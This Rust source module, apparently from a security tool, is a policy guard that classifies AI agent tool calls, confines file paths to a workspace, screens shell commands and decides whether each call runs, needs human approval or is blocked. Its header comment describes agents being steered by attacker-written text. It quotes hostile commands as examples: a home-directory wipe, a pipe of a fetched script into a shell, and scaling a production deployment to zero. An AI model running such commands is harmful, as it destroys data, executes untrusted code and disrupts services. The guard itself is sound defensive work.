//! The action guard: which tool calls run, which wait for a human, which never run.
//!
//! Threat answered: an agent that turns attacker-written text (an alert annotation, a web page, an
//! issue comment) into an action with side effects: `scale deployment api to 0 in payments-prod`,
//! `rm -rf ~`, `curl https://x | sh`, a write outside its workspace. Each [`ExecutionIntent`] gets
//! a class (read, write, destructive; unknown verbs are destructive), a namespace tier, a workspace
//! check of its paths and, for shell tools, a word-level screen of its command line. The mode
//! (`read_only` by default) and the tier turn that into one [`Verdict`], with findings that say
//! which rule decided. Nothing here touches the filesystem except through [`PathProbe`].

pub mod cfg;
pub mod classes;
mod command;
pub mod intent;
pub mod shell;
pub mod tiers;
pub mod workspace;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::Serialize;

pub use classes::{ActionClass, ActionClasses, ClassSource};
pub use intent::{ExecutionIntent, IntentDigest, IntentError, IntentSource, Target};
pub use shell::{ShellReport, ShellRule, ShellScreen, TargetRef};
pub use tiers::{Tier, TierBasis, Tiers};
pub use workspace::{NoSymlinks, PathContext, PathProbe, PathProblem, Workspace};

use crate::config::problems::Problems;
use crate::finding::{Finding, FindingKind, Severity, Verdict};
pub use cfg::{
    ActionConfig, ActionMode, ExecConfig, ExecNetwork, ExecProgramConfig, ShellConfig,
    ShellProgramConfig, TierConfig, TierEffect, ToolClassesConfig, WorkspaceConfig,
};

/// Argument names that hold paths (also any name ending in `_path`, `_file` or `_dir`).
const PATH_KEYS: &[&str] = &[
    "path",
    "paths",
    "file",
    "files",
    "filename",
    "filepath",
    "dir",
    "directory",
    "dirs",
    "src",
    "source",
    "dest",
    "dst",
    "destination",
    "target_path",
    "output",
    "input",
    "from",
    "to",
];
/// Argument names that set the working directory.
const CWD_KEYS: &[&str] = &["cwd", "working_dir", "workdir", "working_directory"];
/// Argument names a shell tool's executor may run: each is screened, and at most one may be given
/// (`command` with an `args` array is one command: the program and its arguments).
const COMMAND_KEYS: &[&str] = &[
    "command",
    "cmd",
    "script",
    "argv",
    "args",
    "shell",
    "code",
    "commands",
    "cmdline",
    "command_line",
    "commandline",
    "program",
    "exec",
    "run",
    "input",
    "stdin",
    "bash",
    "sh",
];
/// Other argument names a shell tool may carry: where, how long, why, with which environment.
const SHELL_META_KEYS: &[&str] = &[
    "cwd",
    "working_dir",
    "workdir",
    "working_directory",
    "dir",
    "timeout",
    "timeout_ms",
    "timeout_secs",
    "timeout_seconds",
    "description",
    "reason",
    "env",
    "run_in_background",
    "background",
    "namespace",
];
/// Shell programs a `shell` argument may name as the interpreter of `command`.
const SHELL_NAMES: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "/bin/sh",
    "/bin/bash",
    "/usr/bin/bash",
    "/bin/zsh",
    "/bin/dash",
];
/// Tools that act on a Kubernetes namespace.
const K8S_TOOLS: &[&str] = &["kubectl", "oc", "helm", "kubernetes", "k8s"];
/// Kubernetes kinds that live in no namespace.
const CLUSTER_KINDS: &[&str] = &[
    "node",
    "nodes",
    "namespace",
    "namespaces",
    "ns",
    "persistentvolume",
    "persistentvolumes",
    "pv",
    "clusterrole",
    "clusterroles",
    "clusterrolebinding",
    "clusterrolebindings",
    "storageclass",
    "storageclasses",
    "customresourcedefinition",
    "customresourcedefinitions",
    "crd",
    "crds",
    "priorityclass",
    "priorityclasses",
    "ingressclass",
    "ingressclasses",
    "mutatingwebhookconfiguration",
    "validatingwebhookconfiguration",
    "apiservice",
    "apiservices",
];

/// A configuration problem: key path, bad value, what is expected.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("`{key}` = {value}: expected {expected}")]
pub struct ActionConfigError {
    /// Key path.
    pub key: String,
    /// Offending value.
    pub value: String,
    /// What is expected.
    pub expected: String,
}

/// What the policy needs from the host: where the workspace is, where `~` points.
#[derive(Debug, Clone)]
pub struct ActionEnv {
    /// `[action.workspace] root`, resolved (empty there means `$BULWARK_HOME/workspace`).
    pub workspace_root: PathBuf,
    /// The home directory `~` means in paths.
    pub home: Option<PathBuf>,
}

/// The compiled action policy: built once from `[action]`, shared read-only.
#[derive(Debug, Clone)]
pub struct ActionPolicy {
    mode: ActionMode,
    classes: ActionClasses,
    tiers: Tiers,
    shell_tools: Vec<String>,
    shell: ShellScreen,
    workspace: Option<Workspace>,
    default_namespace: String,
    namespace_labels: BTreeMap<String, BTreeMap<String, String>>,
}

/// The policy's answer for one intent.
#[derive(Debug, Clone, Serialize)]
pub struct ActionDecision {
    /// Allow, review (needs approval) or block.
    pub verdict: Verdict,
    /// The rule that decided.
    pub rule: String,
    /// Why, for a person.
    pub message: String,
    /// The action's class.
    pub class: ActionClass,
    /// The mode it was judged in.
    pub mode: ActionMode,
    /// The target namespace's tier, if it has a namespace or cluster.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub tier: Option<String>,
    /// Distinct approvers needed (0 unless the verdict is review).
    pub approvals_needed: u32,
    /// The intent's digest (what an approver approves).
    pub digest: IntentDigest,
    /// `tool action kind/name in namespace`.
    pub summary: String,
    /// Everything the guard noted, the deciding rule included.
    pub findings: Vec<Finding>,
    /// The untrusted content the call was proposed with, when the provenance rules judged it
    /// (`provenance::apply`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub taint: Option<crate::finding::Taint>,
}

fn finding(rule: &str, severity: Severity, field: &str, message: String) -> Finding {
    Finding {
        kind: FindingKind::Action,
        rule: rule.to_string(),
        category: None,
        severity,
        location: crate::Location::Field(field.to_string()),
        message,
        preview: String::new(),
    }
}

fn is_path_key(k: &str) -> bool {
    PATH_KEYS.contains(&k) || k.ends_with("_path") || k.ends_with("_file") || k.ends_with("_dir")
}

impl ActionPolicy {
    /// Compile `[action]`.
    pub fn from_config(
        cfg: &ActionConfig,
        env: &ActionEnv,
    ) -> Result<ActionPolicy, ActionConfigError> {
        let tiers = Tiers::new(&cfg.tiers, &cfg.unknown_tier, &cfg.tier_label).map_err(|e| {
            ActionConfigError {
                key: e.key,
                value: e.value,
                expected: e.expected,
            }
        })?;
        let shell = ShellScreen::new(&cfg.shell).map_err(|e| ActionConfigError {
            key: e.key,
            value: e.value,
            expected: e.message,
        })?;
        if !env.workspace_root.is_absolute() {
            return Err(ActionConfigError {
                key: "action.workspace.root".into(),
                value: format!("{:?}", env.workspace_root.display().to_string()),
                expected: "an absolute directory".into(),
            });
        }
        for (key, list) in [
            ("action.workspace.read_allow", &cfg.workspace.read_allow),
            ("action.workspace.write_allow", &cfg.workspace.write_allow),
        ] {
            for (i, e) in list.iter().enumerate() {
                if e.is_empty() || e.contains('\0') || e.contains('\\') {
                    return Err(ActionConfigError {
                        key: format!("{key}[{i}]"),
                        value: format!("{e:?}"),
                        expected: "a directory path (absolute, `~/...`, or relative to the root)"
                            .into(),
                    });
                }
            }
        }
        let workspace = cfg.workspace.restrict.then(|| {
            Workspace::new(
                PathContext {
                    root: env.workspace_root.clone(),
                    home: env.home.clone(),
                },
                &cfg.workspace.read_allow,
                &cfg.workspace.write_allow,
            )
        });
        Ok(ActionPolicy {
            mode: cfg.mode,
            classes: ActionClasses::new(&cfg.tools),
            tiers,
            shell_tools: cfg
                .shell_tools
                .iter()
                .map(|t| classes::normalize_verb(t))
                .collect(),
            shell,
            workspace,
            default_namespace: cfg.default_namespace.clone(),
            namespace_labels: cfg.namespace_labels.clone(),
        })
    }

    /// The mode the policy judges in.
    pub fn mode(&self) -> ActionMode {
        self.mode
    }

    /// Judge an intent. `probe` reads symlinks for the workspace check.
    pub fn evaluate(
        &self,
        intent: &ExecutionIntent,
        probe: &dyn PathProbe,
    ) -> Result<ActionDecision, IntentError> {
        let digest = intent.digest()?;
        let mut findings = Vec::new();
        let mut paths: Vec<(String, String, bool)> = Vec::new();

        // Class: the shell screen for shell tools, the verb tables otherwise.
        let tool = classes::normalize_verb(&intent.tool);
        let mut targets: Vec<TargetRef> = Vec::new();
        let mut unresolved: Vec<(String, String)> = Vec::new();
        let class = if self.shell_tools.contains(&tool) {
            self.shell_intent(
                intent,
                &mut findings,
                &mut paths,
                &mut targets,
                &mut unresolved,
            )
        } else {
            let (class, source) = self.classes.classify(&intent.tool, &intent.action);
            if source == ClassSource::Unknown {
                findings.push(finding(
                    "action-unknown-verb",
                    Severity::Medium,
                    "action",
                    format!(
                        "`{}` of tool `{}` is in no class: treated as destructive (classify it under [action.tools.{}])",
                        intent.action, intent.tool, intent.tool
                    ),
                ));
            }
            class
        };

        // Tier: the most restrictive of every namespace the intent names.
        let tier = self.tier(intent, &tool, &targets, &mut findings);

        // Workspace.
        if let Some(ws) = &self.workspace {
            let mut base = ws.root().to_path_buf();
            for key in CWD_KEYS {
                if let Some(cwd) = intent.args.str(key) {
                    let field = format!("args.{key}");
                    match ws.check(cwd, ws.root(), false, probe) {
                        Ok(resolved) => base = resolved,
                        Err(p) => findings.push(path_finding(&field, cwd, &p)),
                    }
                }
            }
            for (k, v) in &intent.args.0 {
                if !is_path_key(k) {
                    continue;
                }
                let field = format!("args.{k}");
                let values: Vec<&str> = match v {
                    serde_json::Value::String(s) => vec![s.as_str()],
                    serde_json::Value::Array(items) => {
                        items.iter().filter_map(|i| i.as_str()).collect()
                    }
                    _ => Vec::new(),
                };
                for p in values {
                    paths.push((field.clone(), p.to_string(), class >= ActionClass::Write));
                }
            }
            for (field, p, write) in &paths {
                if let Err(problem) = ws.check(p, &base, *write, probe) {
                    findings.push(path_finding(field, p, &problem));
                }
            }
            for (field, word) in &unresolved {
                findings.push(finding(
                    "workspace-unresolved",
                    Severity::High,
                    field,
                    format!(
                        "path `{word}` is known only when the command runs, so it cannot be confined to the workspace"
                    ),
                ));
            }
        }

        // Decide.
        let tier_name = tier.map(|t| t.name.clone());
        let needed = tier.map_or(1, |t| t.approvals);
        let (verdict, rule, message, approvals_needed) = if let Some(f) =
            findings.iter().find(|f| f.severity >= Severity::High)
        {
            (Verdict::Block, f.rule.clone(), f.message.clone(), 0)
        } else if let Some(t) = tier.filter(|t| t.effect == TierEffect::Block) {
            (
                Verdict::Block,
                "tier-block".to_string(),
                format!("tier `{}` blocks every action", t.name),
                0,
            )
        } else if self.mode == ActionMode::ReadOnly && class != ActionClass::Read {
            (
                Verdict::Block,
                "mode-read-only".to_string(),
                format!(
                    "a {} action in read_only mode: only reads run (set [action] mode = \"supervised\" to allow writes)",
                    class.as_str()
                ),
                0,
            )
        } else if let Some(t) =
            tier.filter(|t| t.effect == TierEffect::Approval && class != ActionClass::Read)
        {
            (
                Verdict::Review,
                "tier-approval".to_string(),
                format!(
                    "a {} action in tier `{}`: {} approval(s) needed whatever the mode",
                    class.as_str(),
                    t.name,
                    t.approvals
                ),
                t.approvals,
            )
        } else if self.mode == ActionMode::Supervised && class == ActionClass::Destructive {
            (
                Verdict::Review,
                "mode-supervised".to_string(),
                format!("a destructive action in supervised mode: {needed} approval(s) needed"),
                needed,
            )
        } else {
            (
                Verdict::Allow,
                format!("mode-{}", self.mode.as_str().replace('_', "-")),
                format!(
                    "a {} action runs in {} mode",
                    class.as_str(),
                    self.mode.as_str()
                ),
                0,
            )
        };
        if !findings.iter().any(|f| f.rule == rule) {
            let severity = match verdict {
                Verdict::Block => Severity::High,
                Verdict::Review => Severity::Medium,
                Verdict::Allow => Severity::Info,
            };
            findings.push(finding(&rule, severity, "action", message.clone()));
        }
        Ok(ActionDecision {
            verdict,
            rule,
            message,
            class,
            mode: self.mode,
            tier: tier_name,
            approvals_needed,
            digest,
            summary: intent.summary(),
            findings,
            taint: None,
        })
    }
}

impl ActionPolicy {
    /// The tier of an intent: the most restrictive of its target's namespace, `args.namespace`,
    /// and the namespaces, projects and accounts its command names. A Kubernetes intent that names
    /// no namespace takes `default_namespace`'s tier, or the most restrictive tier.
    fn tier(
        &self,
        intent: &ExecutionIntent,
        tool: &str,
        targets: &[TargetRef],
        findings: &mut Vec<Finding>,
    ) -> Option<&Tier> {
        let mut candidates: Vec<(String, Option<&Tier>)> = Vec::new();
        let classify = |what: String,
                        ns: &str,
                        findings: &mut Vec<Finding>|
         -> (String, Option<&Tier>) {
            let found = self.tiers.classify(ns, self.labels_of(ns)).inspect(|(tier, basis)| {
                let why = match basis {
                    TierBasis::Name | TierBasis::Label => None,
                    TierBasis::Malformed if ns.is_empty() => Some("has no namespace".to_string()),
                    TierBasis::Malformed => Some(format!(
                        "namespace {ns:?} is not a plain name (ASCII letters, digits, `-`, `_`, `.`)"
                    )),
                    TierBasis::Unmatched => Some(format!("namespace `{ns}` matches no tier pattern")),
                    TierBasis::UnknownLabel => Some("the tier label names no configured tier".to_string()),
                };
                if let Some(why) = why {
                    findings.push(finding(
                        "tier-unknown-namespace",
                        Severity::Medium,
                        "target.namespace",
                        format!("{what} {why}: treated as tier `{}`", tier.name),
                    ));
                }
            });
            (what, found.map(|(t, _)| t))
        };
        let t = &intent.target;
        if let Some(ns) = &t.namespace {
            candidates.push(classify("the target".into(), ns, findings));
        } else if t.cluster.is_some() {
            candidates.push(classify("the target".into(), "", findings));
        }
        if let Some(ns) = intent.args.str("namespace") {
            candidates.push(classify("`args.namespace`".into(), ns, findings));
        }
        for r in targets {
            match r {
                TargetRef::Named {
                    program,
                    option,
                    value,
                } => candidates.push(classify(
                    format!("`{program} {option} {value}`"),
                    value,
                    findings,
                )),
                TargetRef::All { program } => candidates.push((
                    format!("`{program}` on every namespace"),
                    self.tiers.most_restrictive(),
                )),
                TargetRef::Default { program } => self.default_namespace_tier(
                    format!("`{program}` without a namespace"),
                    &mut candidates,
                    findings,
                ),
            }
        }
        let namespaced_kind = !CLUSTER_KINDS.contains(&t.kind.to_ascii_lowercase().as_str());
        if candidates.is_empty() && K8S_TOOLS.contains(&tool) && namespaced_kind {
            self.default_namespace_tier(
                format!("a `{tool}` intent without a namespace"),
                &mut candidates,
                findings,
            );
        }
        candidates
            .into_iter()
            .filter_map(|(_, t)| t)
            .max_by_key(|t| tiers::strictness(t))
    }

    /// The configured labels of a namespace (none when it has no entry).
    fn labels_of(&self, ns: &str) -> &BTreeMap<String, String> {
        static NONE: BTreeMap<String, String> = BTreeMap::new();
        self.namespace_labels.get(ns).unwrap_or(&NONE)
    }

    fn default_namespace_tier<'a>(
        &'a self,
        what: String,
        candidates: &mut Vec<(String, Option<&'a Tier>)>,
        findings: &mut Vec<Finding>,
    ) {
        if self.default_namespace.is_empty() {
            // No default configured: the unknown tier (`unknown_tier`, else the most restrictive).
            let t = self.tiers.classify("", &BTreeMap::new()).map(|(t, _)| t);
            if let Some(t) = t {
                findings.push(finding(
                    "tier-default-namespace",
                    Severity::Low,
                    "target.namespace",
                    format!(
                        "{what} acts on the default namespace, and no [action] default_namespace is configured: treated as tier `{}` (the unknown tier)",
                        t.name
                    ),
                ));
            }
            candidates.push((what, t));
        } else {
            let t = self
                .tiers
                .classify(
                    &self.default_namespace,
                    self.labels_of(&self.default_namespace),
                )
                .map(|(t, _)| t);
            candidates.push((what, t));
        }
    }
}

fn path_finding(field: &str, raw: &str, problem: &PathProblem) -> Finding {
    let shown: String = raw
        .chars()
        .map(|c| if c == '\0' { '␀' } else { c })
        .collect();
    let (rule, message) = match problem {
        PathProblem::Nul => (
            "workspace-nul",
            format!("path {shown:?} contains a NUL byte"),
        ),
        PathProblem::WindowsForm => (
            "workspace-windows-path",
            format!("path {shown:?} is a Windows drive, UNC or backslash form"),
        ),
        PathProblem::NoHome => (
            "workspace-escape",
            format!("path {shown:?} starts with `~` but no home directory is known"),
        ),
        PathProblem::SymlinkLoop => (
            "workspace-symlink-loop",
            format!("path {shown:?} goes through more than 40 symlinks"),
        ),
        PathProblem::Outside {
            resolved,
            via_symlink: true,
        } => (
            "workspace-symlink-escape",
            format!(
                "path {shown:?} follows a symlink out of the workspace, to {}",
                resolved.display()
            ),
        ),
        PathProblem::Outside {
            resolved,
            via_symlink: false,
        } => (
            "workspace-escape",
            format!(
                "path {shown:?} resolves outside the allowed directories, to {}",
                resolved.display()
            ),
        ),
    };
    finding(rule, Severity::High, field, message)
}

/// The workspace root `[action.workspace] root` names (empty: `home/workspace`).
pub fn workspace_root(cfg: &ActionConfig, bulwark_home: &Path) -> PathBuf {
    if cfg.workspace.root.is_empty() {
        bulwark_home.join("workspace")
    } else {
        PathBuf::from(&cfg.workspace.root)
    }
}

/// Check `[action]`: the workspace root, every rule and tier (by compiling the policy the way every
/// command does), and the programs `bulwark exec` confines.
pub fn check_config(action: &ActionConfig, p: &mut Problems) {
    let root = &action.workspace.root;
    if !root.is_empty() && !Path::new(root).is_absolute() {
        p.invalid(
            "action.workspace.root",
            format!("{root:?}"),
            "an absolute directory, or empty for $BULWARK_HOME/workspace",
        );
    }
    let env = ActionEnv {
        workspace_root: PathBuf::from("/"),
        home: None,
    };
    if let Err(e) = ActionPolicy::from_config(action, &env) {
        p.invalid(e.key, e.value, e.expected);
    }
    for (name, program) in &action.exec.programs {
        if name.is_empty() || name.contains('/') || name.chars().any(char::is_control) {
            p.invalid(
                "action.exec.programs",
                format!("{name:?}"),
                "a program name (the basename of a command, e.g. kubectl), without `/`",
            );
        }
        for (i, path) in program.read.iter().enumerate() {
            if !(path.starts_with("~/") || Path::new(path).is_absolute()) || path.contains('\0') {
                p.invalid(
                    format!("action.exec.programs.{name}.read[{i}]"),
                    format!("{path:?}"),
                    "an absolute path or one under the home directory (`~/.kube/config`)",
                );
            }
        }
    }
}
